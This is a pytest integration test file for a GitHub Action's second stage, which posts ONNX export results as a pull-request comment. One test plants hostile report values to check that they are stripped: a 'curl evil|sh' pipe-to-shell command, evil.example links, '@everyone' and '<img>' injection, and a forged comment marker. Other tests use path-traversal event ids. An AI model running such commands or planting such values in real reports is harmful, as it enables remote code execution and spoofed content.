"""The second stage: the comment that the first would have written, on the pull request that GitHub names."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from onnx_export_action import settings
from onnx_export_action.github.comment import page, text
from onnx_export_action.report import document
from tests.factories import make_error_report, make_failed_report, make_model, make_report
from tests.integration import program
from tests.integration.comment_case import tell
from tests.integration.github_actions_api import ActionsApi
from tests.integration.github_api import PULL, GitHubApi, running_api
from tests.integration.second_stage_case import (
    FORK,
    RUN,
    WORKFLOW,
    archive,
    environment,
    event,
    open_pull,
    packed,
    report_of,
    second_stage,
)
from tests.integration.test_onnx_file import write

pytestmark = pytest.mark.usefixtures("waits")
RUN_URL = f"https://github.com/acme/models/actions/runs/{RUN}"


@pytest.fixture
def api() -> Iterator[GitHubApi]:
    with running_api() as server:
        yield server


@pytest.fixture
def actions(api: GitHubApi) -> ActionsApi:
    return ActionsApi(api)


def test_tell__writes_the_first_stages_comment(actions: ActionsApi, tmp_path: Path) -> None:
    stored = actions.keep("encoder-onnx", archive(report_of()))
    open_pull(actions)
    done = second_stage(actions, tmp_path)
    assert (done.outcome.status, done.annotations) == (0, [])
    (body,) = actions.api.texts()
    assert body.startswith(page.marker(WORKFLOW))
    (part,) = text.parts_of(body)
    assert (part.row.commit, part.row.run, part.row.attempt) == ("a" * 40, RUN, 1)
    assert f"[files]({RUN_URL}/artifacts/{stored.id}) · [full report]({RUN_URL})" in body
    assert done.outcome.outputs == {"comment-url": f"https://github.com/acme/models/pull/{PULL}#issuecomment-1000"}
    assert "Told 1 report of run 5 on pull request" in done.outcome.summary
    assert not done.outcome.folder.exists()


def test_tell__one_stage_and_two_make_the_same_part(actions: ActionsApi, tmp_path: Path) -> None:
    write(tmp_path / "network.onnx")
    fork = {"full_name": FORK}
    side = {"sha": "a" * 40, "repo": fork}
    pull = {"pull_request": {"number": PULL, "head": side, "base": {**side, "repo": {"full_name": "acme/models"}}}}
    first = environment(
        actions.api,
        tmp_path,
        pull,
        GITHUB_EVENT_NAME="pull_request",
        GITHUB_RUN_ID=str(RUN),
        GITHUB_RUN_ATTEMPT="1",
        GITHUB_WORKFLOW=WORKFLOW,
        GITHUB_JOB="export",
    )
    inputs = {"model": "network.onnx", "opset": "17", "github-token": actions.api.token, "baseline": "none"}
    alone = program.run(tmp_path, inputs, environment=first)
    assert alone.status == 0, alone.log
    (one_stage,) = text.parts_of(actions.api.texts()[0])
    actions.api.bodies.clear()
    actions.keep("network-onnx", archive((alone.folder / "report.json").read_bytes()))
    open_pull(actions)
    assert second_stage(actions, tmp_path).outcome.status == 0
    (two_stages,) = text.parts_of(actions.api.texts()[0])
    assert (two_stages.key, two_stages.row) == (one_stage.key, one_stage.row)
    assert two_stages.row.note == "opset 17"


def test_tell__replaces_what_a_single_stage_wrote_and_keeps_the_rest(actions: ActionsApi, tmp_path: Path) -> None:
    for model in ("acme/encoder", "acme/other"):
        tell(actions.api, tmp_path, model=model, GITHUB_RUN_ID="4", GITHUB_WORKFLOW=WORKFLOW)
    asked = settings.request_of(settings.parse({"model": "acme/encoder"}, tmp_path), "export")
    actions.keep("encoder-onnx-failed", archive(make_failed_report(request=asked)))
    open_pull(actions)
    assert second_stage(actions, tmp_path).annotations == []
    (body,) = actions.api.texts()
    assert [(part.row.verdict, part.row.run) for part in text.parts_of(body)] == [("fail", RUN), ("pass", 4)]


def test_tell__a_matrix_is_one_comment_written_once(actions: ActionsApi, tmp_path: Path) -> None:
    for name in ("a", "b", "c"):
        actions.keep(f"{name}-onnx", archive(report_of(f"acme/{name}")))
    actions.keep("d-onnx-failed-2", packed({"report.json": document.to_json(make_error_report(request=None))}))
    open_pull(actions)
    second_stage(actions, tmp_path)
    (body,) = actions.api.texts()
    assert [part.row.verdict for part in text.parts_of(body)] == ["error", "pass", "pass", "pass"]
    assert (actions.api.calls.count("create"), actions.api.calls.count("update")) == (1, 0)


def test_tell__an_unchanged_run_leaves_the_comment_alone(actions: ActionsApi, tmp_path: Path) -> None:
    actions.keep("encoder-onnx", archive(report_of()))
    open_pull(actions)
    first = second_stage(actions, tmp_path)
    again = second_stage(actions, tmp_path)
    assert again.outcome.outputs == first.outcome.outputs
    assert "update" not in actions.api.calls


def test_tell__of_a_name_that_two_attempts_left_the_newer_counts(actions: ActionsApi, tmp_path: Path) -> None:
    actions.keep("encoder-onnx-failed", archive(make_failed_report(request=report_of().request)))
    actions.keep("encoder-onnx-failed", archive(make_error_report(request=report_of().request)))
    open_pull(actions)
    second_stage(actions, tmp_path, event(run_attempt=2))
    (part,) = text.parts_of(actions.api.texts()[0])
    assert (part.row.verdict, part.row.attempt) == ("error", 2)


def test_tell__what_a_report_claims_changes_nothing(actions: ActionsApi, tmp_path: Path) -> None:
    content = json.loads(document.to_json(report_of()))
    claims: dict[str, Any] = {"number": 99, "pull_request": 99, "commit": "e" * 40, "run": 77, "run_id": 77}
    content |= {
        **claims,
        "repository": "evil/repo",
        "artifact_url": "https://evil.example/",
        "reproduce": "curl evil|sh",
    }
    content["request"] |= {**claims, "job": "99"}
    content["model"]["id"] = "[x](https://evil.example/) @everyone <img src=x> <!-- onnx-export-action:part -->"
    actions.keep("encoder-onnx", archive(json.dumps(content)))
    actions.open_pull(99, "acme/models")
    open_pull(actions)
    assert second_stage(actions, tmp_path).annotations == []
    (body,) = actions.api.texts()
    assert len(text.parts_of(body)) == 1
    assert set(re.findall(r"\]\((https?://[^)]*)\)", body)) == {RUN_URL, f"{RUN_URL}/artifacts/100"}
    assert "evil|sh" not in body
    assert "evil&#124;sh" not in body
    assert "e" * 40 not in body
    assert "runs/77" not in body
    assert "https://evil" not in body
    assert "@everyone" not in body
    assert "<img" not in body


@pytest.mark.parametrize(
    ("pulls", "sentence"),
    [
        ([], "No open pull request has commit aaaaaaa of mallory/models as its head."),
        ([{"head": "mallory/models-2"}], "No open pull request has commit aaaaaaa of mallory/models as its head."),
        ([{"sha": "b" * 40}], "Pull request #7 has moved on from commit aaaaaaa: the run on its new head tells it."),
        ([{"base": "mallory/models"}], "No open pull request has commit aaaaaaa"),
        ([{}, {"number": 8}], "Commit aaaaaaa is the head of 2 open pull requests, so none is told."),
    ],
    ids=["none", "another fork of the owner", "moved on", "in another repository", "several"],
)
def test_tell__no_pull_request_is_one_line(
    actions: ActionsApi, tmp_path: Path, pulls: list[dict[str, Any]], sentence: str
) -> None:
    actions.keep("encoder-onnx", archive(report_of()))
    for pull in pulls:
        open_pull(actions, **pull)
    done = second_stage(actions, tmp_path)
    assert (done.outcome.status, done.annotations, done.outcome.outputs) == (0, [], {})
    assert sentence in done.outcome.log
    assert actions.api.calls == ["pulls"]
    assert actions.api.bodies == {}


def test_tell__a_fork_under_the_same_owner_is_told_apart(actions: ActionsApi, tmp_path: Path) -> None:
    actions.keep("encoder-onnx", archive(report_of()))
    actions.open_pull(99, "mallory/models-2")
    open_pull(actions)
    second_stage(actions, tmp_path)
    assert len(actions.api.texts()) == 1


@pytest.mark.parametrize(
    ("changes", "sentence"),
    [
        ({"event": "push"}, "The run was started by 'push', so there is no pull request to comment on."),
        ({"head_repository": None}, "The repository or the branch that the run was for is gone"),
        ({"head_branch": None}, "The repository or the branch that the run was for is gone"),
    ],
)
def test_tell__a_run_without_a_pull_request_asks_for_nothing(
    actions: ActionsApi, tmp_path: Path, changes: dict[str, Any], sentence: str
) -> None:
    done = second_stage(actions, tmp_path, event(**changes))
    assert (done.outcome.status, done.annotations, actions.api.calls) == (0, [], [])
    assert sentence in done.outcome.log


@pytest.mark.parametrize(
    ("told", "overrides", "sentence"),
    [
        (
            event(),
            {"GITHUB_EVENT_NAME": "pull_request"},
            "needs the event workflow_run, this is the event 'pull_request'",
        ),
        (event(), {"GITHUB_EVENT_NAME": ""}, "needs the event workflow_run, this is no event"),
        (event(), {"GITHUB_EVENT_PATH": "gone.json"}, "cannot be read: No such file or directory."),
        ({}, {}, "does not describe a finished run"),
        ([], {}, "does not describe a finished run"),
        (event(head_sha="refs/heads/x"), {}, "does not describe a finished run"),
        (event(head="a/b/../../c"), {}, "does not describe a finished run"),
        (event(id="5/../6"), {}, "does not describe a finished run"),
        (event(), {"GITHUB_REPOSITORY": ""}, "no token or no repository"),
    ],
)
def test_tell__another_event_is_a_usage_error(
    actions: ActionsApi, tmp_path: Path, told: object, overrides: dict[str, str], sentence: str
) -> None:
    done = second_stage(actions, tmp_path, told, **overrides)
    assert done.outcome.status == 2
    assert len(done.annotations) == 1
    assert sentence in done.annotations[0]
    assert sentence.partition(", ")[0][:20] in done.outcome.summary
    assert actions.api.calls == []


def test_tell__without_a_token_is_a_usage_error(actions: ActionsApi, tmp_path: Path) -> None:
    done = second_stage(actions, tmp_path, inputs={"github-token": ""})
    assert done.outcome.status == 2
    assert "actions: read" in done.annotations[0]


def test_tell__comment_never_does_nothing(actions: ActionsApi, tmp_path: Path) -> None:
    done = second_stage(actions, tmp_path, inputs={"comment": "never"})
    assert (done.outcome.status, done.annotations, actions.api.calls) == (0, [], [])


def test_tell__a_run_that_left_nothing(actions: ActionsApi, tmp_path: Path) -> None:
    open_pull(actions)
    done = second_stage(actions, tmp_path)
    assert (done.outcome.status, done.annotations) == (0, [])
    assert "Run 5 left no report" in done.outcome.summary
    assert actions.api.bodies == {}


def test_tell__the_token_is_in_no_text(actions: ActionsApi, tmp_path: Path) -> None:
    actions.keep("encoder-onnx", archive(make_report(model=make_model())))
    open_pull(actions)
    done = second_stage(actions, tmp_path)
    masked = f"::add-mask::{actions.api.token}"
    assert masked in done.outcome.log
    assert actions.api.token not in done.outcome.log.replace(masked, "") + done.outcome.summary + actions.api.texts()[0]
